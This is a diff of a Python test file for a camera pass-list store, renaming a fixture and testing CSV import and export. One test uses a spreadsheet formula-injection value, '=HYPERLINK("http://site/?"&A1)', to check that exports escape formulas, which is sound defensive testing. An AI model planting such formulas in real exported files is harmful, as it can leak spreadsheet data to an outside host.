@@ -212,7 +212,7 @@ B777BB77,,,,0
 
 
 @pytest.fixture
-def listed(store: PassStore) -> PassStore:
+def listed_store(store: PassStore) -> PassStore:
     """Return a store with an empty list, which the camera `gate` looks up."""
     store.lists.create("residents")
     store.configure([Camera("gate", "rtsp://gate", lists=("residents",))])
@@ -228,31 +228,31 @@ def listed(store: PassStore) -> PassStore:
     ],
 )
 def test_a_pass_hits_an_entry_that_is_there_when_it_is_written(
-    listed: PassStore, entry: ListEntry, is_hit: bool
+    listed_store: PassStore, entry: ListEntry, is_hit: bool
 ) -> None:
-    listed.write([make_event("before")], [])
-    listed.lists.put("residents", [entry])
-    listed.write([make_event("a")], [])
-    listed.lists.remove("residents", entry.text)
-    listed.write([make_event("after")], [])
-    assert find_ids(listed, PassQuery(list_name="residents")) == ["a"] * is_hit
+    listed_store.write([make_event("before")], [])
+    listed_store.lists.put("residents", [entry])
+    listed_store.write([make_event("a")], [])
+    listed_store.lists.remove("residents", entry.text)
+    listed_store.write([make_event("after")], [])
+    assert find_ids(listed_store, PassQuery(list_name="residents")) == ["a"] * is_hit
 
 
-def test_a_csv_file_returns_as_it_came_and_a_note_is_no_formula(listed: PassStore) -> None:
-    assert listed.lists.import_csv("residents", CSV) == 2
-    assert "".join(listed.lists.export_csv("residents", REQUESTER)) == CSV
+def test_a_csv_file_returns_as_it_came_and_a_note_is_no_formula(listed_store: PassStore) -> None:
+    assert listed_store.lists.import_csv("residents", CSV) == 2
+    assert "".join(listed_store.lists.export_csv("residents", REQUESTER)) == CSV
     entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
-    listed.lists.put("residents", [entry])
-    file = "".join(listed.lists.export_csv("residents", REQUESTER))
+    listed_store.lists.put("residents", [entry])
+    file = "".join(listed_store.lists.export_csv("residents", REQUESTER))
     assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
-    listed.lists.import_csv("residents", file, replacing=True)
-    assert listed.lists.entries("residents", EVERYTHING)[0] == entry
+    listed_store.lists.import_csv("residents", file, replacing=True)
+    assert listed_store.lists.entries("residents", EVERYTHING)[0] == entry
 
 
-def test_a_list_is_created_once(listed: PassStore) -> None:
+def test_a_list_is_created_once(listed_store: PassStore) -> None:
     with pytest.raises(StoreError, match="already"):
-        listed.lists.create("residents")
-    assert listed.lists.names() == ["residents"]
+        listed_store.lists.create("residents")
+    assert listed_store.lists.names() == ["residents"]
 
 
 A1, A2, B1, B2 = "A000177", "A000277", "B000177", "B000277"
